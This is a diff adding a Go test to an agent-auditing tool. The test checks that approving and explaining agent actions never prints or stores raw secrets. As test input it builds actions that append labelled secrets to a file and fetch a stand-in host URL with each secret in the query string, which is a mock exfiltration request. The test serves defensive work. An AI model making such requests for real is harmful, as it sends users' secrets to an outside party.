@@ -3,6 +3,7 @@ package main
 import (
 	"bytes"
 	"encoding/json"
+	"fmt"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -13,6 +14,8 @@ import (
 	"time"
 
 	"github.com/agentwarden/warden/audit"
+	"github.com/agentwarden/warden/internal/corpus"
+	"github.com/agentwarden/warden/secrets"
 )
 
 // decided is what approve's tests read of an answer of assess.
@@ -272,3 +275,100 @@ var refField = regexp.MustCompile(`,"decision_ref":"[0-9a-f]+"`)
 // withoutRef returns an answer of assess --store as assess without a
 // store writes it.
 func withoutRef(line string) string { return refField.ReplaceAllString(line, "") }
+
+// TestApproveExplainNoRawSecret: the actions of TestAuditNoRawSecret,
+// carrying every labelled secret of the corpus, each in a conversation,
+// are approved by reference (once; for the project, which is refused:
+// the trail holds them masked), with the secret as the reason, and
+// explained (text and JSON): no raw secret in anything printed, nor in
+// the store's files.
+func TestApproveExplainNoRawSecret(t *testing.T) {
+	cases := corpus.Secrets(t, filepath.Join("..", "..", "testdata", "secrets.jsonl"), secrets.Default().Values)
+	dir := filepath.Join(t.TempDir(), "state")
+	dsn := filepath.Join(dir, "warden.db")
+	project := t.TempDir()
+	var in strings.Builder
+	for i, c := range cases {
+		for _, a := range []map[string]any{
+			bash("echo " + shellQuote(c.Text) + " >> config.txt"),
+			fetch("https://x.example/c?v=" + strings.ReplaceAll(c.Text, " ", "+")),
+		} {
+			a["session_id"], a["cwd"] = fmt.Sprintf("secret-%d", i), project
+			b, _ := json.Marshal(a)
+			in.Write(b)
+			in.WriteByte('\n')
+		}
+	}
+	code, stdout, stderr := runCLI(t, in.String(), "assess", "--store", dsn, "--home", "/home/user", "--cwd", project)
+	if code != 0 {
+		t.Fatalf("exit %d: %s", code, stderr)
+	}
+	texts := map[string]string{}
+	refs := 0
+	for i, line := range strings.Split(strings.TrimSpace(stdout), "\n") {
+		var d decided
+		if err := json.Unmarshal([]byte(line), &d); err != nil {
+			t.Fatal(err)
+		}
+		if d.Ref == "" {
+			t.Fatalf("line %d has no reference: %s", i+1, line)
+		}
+		refs++
+		reason := cases[i/2].Text
+		for _, args := range [][]string{
+			{"approve", d.Ref, "--reason", reason},
+			{"approve", d.Ref, "--project", "--reason", reason},
+			{"explain", d.Ref},
+			{"explain", d.Ref, "--json"},
+		} {
+			_, o, e := runCLI(t, "", append(args, "--store", dsn)...)
+			key := fmt.Sprintf("%s (line %d)", strings.Join(args[:min(3, len(args))], " "), i+1)
+			texts[key+" stdout"], texts[key+" stderr"] = o, e
+		}
+	}
+	approved, refused := 0, 0
+	for what, text := range texts {
+		switch {
+		case strings.HasPrefix(what, "approve") && strings.HasSuffix(what, "stdout") && strings.HasPrefix(text, "approved once: "):
+			approved++
+		case strings.HasPrefix(what, "approve") && strings.HasSuffix(what, "stderr") && strings.Contains(text, "the trail holds it masked"):
+			refused++
+		}
+	}
+	if approved != refs || refused == 0 {
+		t.Errorf("%d actions: %d approved once, %d refused for the project as masked", refs, approved, refused)
+	}
+	t.Logf("%d actions: %d approved once, %d refused for the project as masked", refs, approved, refused)
+	ents, err := os.ReadDir(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, e := range ents {
+		b, err := os.ReadFile(filepath.Join(dir, e.Name()))
+		if err != nil {
+			t.Fatal(err)
+		}
+		texts[e.Name()] = string(b)
+	}
+	if !strings.Contains(texts["explain "+firstRef(stdout)+" (line 1) stdout"], "answers") {
+		t.Errorf("the first explanation names no answer:\n%s", texts["explain "+firstRef(stdout)+" (line 1) stdout"])
+	}
+	for what, text := range texts {
+		for _, c := range cases {
+			for _, raw := range c.Raws {
+				for _, form := range secretForms(raw) {
+					if strings.Contains(text, form) {
+						t.Errorf("%s holds the raw secret %q", what, raw)
+					}
+				}
+			}
+		}
+	}
+}
+
+// firstRef is the reference of assess's first answer.
+func firstRef(stdout string) string {
+	var d decided
+	json.Unmarshal([]byte(strings.SplitN(stdout, "\n", 2)[0]), &d)
+	return d.Ref
+}
